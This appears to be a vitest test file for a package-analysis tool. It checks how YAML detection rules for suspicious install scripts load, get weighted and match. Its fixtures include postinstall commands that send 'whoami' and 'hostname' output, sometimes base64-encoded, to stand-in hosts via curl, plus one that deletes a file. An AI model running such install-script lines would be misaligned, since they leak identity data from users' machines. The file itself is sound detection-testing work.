import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { analyzePackage, defaultRulesFolder, loadRules, RuleFileError } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const RULE = `id: my-rule
title: A request to the test host
why: Only a test of the rule files of users has this rule.
family: test
severity: high
weight: { install: 80 }
when: { call: { to: [net.out], target: "host\\\\.test" } }
`;

function folderWith(files: Record<string, string>, separators: Record<string, string> = {}): string {
  const folder = mkdtempSync(join(tmpdir(), 'rules-'));
  for (const [subfolder, texts] of Object.entries({ behaviours: files, separators })) {
    mkdirSync(join(folder, subfolder));
    for (const [name, text] of Object.entries(texts)) writeFileSync(join(folder, subfolder, name), text);
  }
  return folder;
}

const load = (files: Record<string, string>) => loadRules([defaultRulesFolder(), folderWith(files)]);

describe('loadRules', () => {
  test('own rules load, are at least sixty, and every one names why and a family', () => {
    const { rules } = ownRules();
    expect(rules.length).toBeGreaterThanOrEqual(60);
    expect(new Set(rules.map((rule) => rule.id)).size).toBe(rules.length);
  });

  test('a rule file of a user works without any code', () => {
    const rules = load({ 'my-rule.yaml': RULE });
    const verdict = analyzePackage(packageOf({}, { scripts: { postinstall: 'curl https://host.test/x' } }), rules);
    expect(verdict.findings.map((finding) => finding.rule)).toContain('my-rule');
    expect(verdict.action).toBe('block');
  });

  test('the hash depends on what the files say', () => {
    expect(load({ 'my-rule.yaml': RULE }).hash).not.toBe(load({ 'my-rule.yaml': RULE.replace('80', '70') }).hash);
  });

  test.each([
    ['an unknown field', RULE.replace('family:', 'famly: x\nfamily:'), /famly/],
    ['a bad regular expression', RULE.replace('host\\\\.test', '(host'), /target.*regular expression/],
    ['an unknown condition', RULE.replace('call:', 'cal:'), /when/],
    ['a weight out of range', RULE.replace('80', '180'), /weight\.install/],
    ['no YAML', `${RULE}\n  - [`, /my-rule\.yaml/],
    [
      'an indicator list that is not there',
      RULE.replace('target: "host\\\\.test"', 'indicators: [nowhere]'),
      /nowhere/,
    ],
  ])('%s is an error that names the place', (_name, text, message) => {
    expect(() => load({ 'my-rule.yaml': text })).toThrow(RuleFileError);
    expect(() => load({ 'my-rule.yaml': text })).toThrow(message);
  });

  test('the file must be called as its rule', () => {
    expect(() => load({ 'other.yaml': RULE })).toThrow(/my-rule\.yaml/);
  });
});

describe('separators that rules share', () => {
  const SHARED = `id: my-separator
why: the request says hello
factor: 0.5
when: { call: { to: [net.out], target: hello } }
`;
  const using = (soften: string, shared = SHARED, name = 'my-separator.yaml') =>
    loadRules([
      defaultRulesFolder(),
      folderWith({ 'my-rule.yaml': `${RULE}soften: [${soften}]\n` }, { [name]: shared }),
    ]);
  const weight = (rules: ReturnType<typeof using>): number | undefined =>
    analyzePackage(packageOf({}, { scripts: { postinstall: 'curl https://host.test/hello' } }), rules).findings.find(
      ({ rule }) => rule === 'my-rule',
    )?.weight;

  test('weigh by their own factor, or by that of the rule', () => {
    expect(weight(using('{ use: my-separator }'))).toBe(40);
    expect(weight(using('{ use: my-separator, factor: 0.25 }'))).toBe(20);
  });

  test('are of any folder: a rule of a user may name one of this package', () => {
    expect(using('{ use: archive-unpacked }').rules.find(({ id }) => id === 'my-rule')?.soften).toHaveLength(1);
  });

  test.each([
    ['one that no folder has', '{ use: nowhere }', SHARED, 'my-separator.yaml', /nowhere/],
    ['an unknown field', '{ use: my-separator }', `${SHARED}more: 1\n`, 'my-separator.yaml', /more/],
    ['a file called otherwise', '{ use: my-separator }', SHARED, 'other.yaml', /my-separator\.yaml/],
  ])('%s is an error that names the place', (_name, soften, shared, name, message) => {
    expect(() => using(soften, shared, name)).toThrow(RuleFileError);
    expect(() => using(soften, shared, name)).toThrow(message);
  });

  test('every one of this package is used', () => {
    const { rules, separators } = ownRules();
    const used = new Set(rules.flatMap((rule) => rule.soften));
    const unused = [...separators].filter(([, { when }]) => ![...used].some((separator) => separator.when === when));
    expect(unused.map(([id]) => id)).toEqual([]);
  });
});

describe('conditions', () => {
  const fires = (condition: string, script: string, extra = ''): boolean => {
    const text = RULE.replace(/^when:.*$/m, `when: ${condition}\n${extra}`);
    const verdict = analyzePackage(
      packageOf({}, { scripts: { postinstall: script }, description: 'words' }),
      load({ 'my-rule.yaml': text }),
    );
    return verdict.findings.some((finding) => finding.rule === 'my-rule');
  };
  const CURL = '{ call: { to: [net.out] } }';

  test('all needs every member at the same entry, any one of them', () => {
    expect(fires(`{ all: [${CURL}, { call: { to: [fs.delete] } }] }`, 'curl https://h.test && rm x')).toBe(true);
    expect(fires(`{ all: [${CURL}, { call: { to: [fs.delete] } }] }`, 'curl https://h.test')).toBe(false);
    expect(fires(`{ any: [{ call: { to: [fs.delete] } }, ${CURL}] }`, 'curl https://h.test')).toBe(true);
  });

  test('not and unless take a rule away, manifest and phase look beside the code', () => {
    expect(fires(`{ all: [${CURL}, { not: { call: { to: [fs.delete] } } }] }`, 'curl https://h.test && rm x')).toBe(
      false,
    );
    const unless = 'unless: { call: { to: [net.out], target: "^https" } }';
    expect(fires(CURL, 'curl https://h.test', unless)).toBe(false);
    // A harmless twin beside it separates nothing.
    expect(fires(CURL, 'curl https://h.test && curl http://h.test', unless)).toBe(true);
    expect(
      fires(
        `{ all: [${CURL}, { manifest: { field: description, matches: "^words$" } }, { phase: [install] }] }`,
        'curl https://h.test',
      ),
    ).toBe(true);
    expect(fires(`{ all: [${CURL}, { phase: [import] }] }`, 'curl https://h.test')).toBe(false);
  });

  test('a flow needs its source, what it went through, and so many different things', () => {
    const flow = (rest: string): string => `{ flow: { from: [identity], to: [net.out]${rest} } }`;
    expect(fires(flow(''), 'curl https://h.test/$(whoami)')).toBe(true);
    expect(fires(flow(', through: [base64]'), 'curl https://h.test/$(whoami)')).toBe(false);
    expect(fires(flow(', through: [base64]'), 'curl https://h.test/$(whoami | base64)')).toBe(true);
    expect(fires(flow(', distinct: 2'), 'curl https://h.test/$(whoami)')).toBe(false);
    expect(fires(flow(', distinct: 2'), 'curl https://h.test/$(whoami)/$(hostname)')).toBe(true);
    expect(fires(flow(', host: address'), 'curl http://192.0.2.7/$(whoami)')).toBe(true);
  });

  test('a prefix is one of whole words', () => {
    expect(fires('{ call: { to: [net] } }', 'curl https://h.test')).toBe(true);
    expect(fires('{ call: { to: [ne] } }', 'curl https://h.test')).toBe(false);
  });
});
